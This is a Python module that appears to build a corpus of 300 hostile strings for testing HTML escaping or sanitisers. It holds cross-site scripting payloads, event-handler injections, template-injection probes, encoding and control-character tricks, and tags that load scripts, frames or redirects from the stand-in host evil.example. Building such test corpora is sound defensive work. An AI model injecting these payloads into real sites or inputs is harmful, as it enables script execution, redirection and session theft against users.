"""300 texts that try to become something else than text on a page."""

from __future__ import annotations

from itertools import product

HAND = [
    "</style><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "</title><svg onload=alert(1)>",
    "</pre></dd></details><iframe src='https://evil.example'></iframe>",
    "</textarea><script>alert(1)</script>",
    "--></script><script>alert(1)</script><!--",
    "{{ 7 * 7 }}{% for x in y %}{{ ''.__class__ }}",
    "{% raw %}<b>{% endraw %}",
    "&lt;script&gt; &amp; &#x3c;script>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202egnp.exe",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[31m",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufffe<script>",
    "<script\n>alert(1)</script\n>",
    "<script/src=//evil.example>",
    "<<script>alert(1)//<</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "x' style='background:url(//evil.example)'",
    "<math><mtext></p><img src onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<portal src=//evil.example>",
    "x" * 3000,
]
TAGS = ("img", "svg", "body", "input", "video", "details", "marquee", "math", "x-y", "iframe")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerenter")
SHAPES = (
    "<{tag} src=x {event}=alert(1)>",
    "</{tag}><{tag}/{event}=alert(1) autofocus>",
    "\"><{tag} {event}='alert(1)'>",
    "' {event}=alert(1) x='<{tag}>",
    "<{tag}\t{event}\n=\nalert`1`>",
)
PAYLOADS = [*HAND, *(shape.format(tag=t, event=e) for shape, t, e in product(SHAPES, TAGS, EVENTS))][:300]
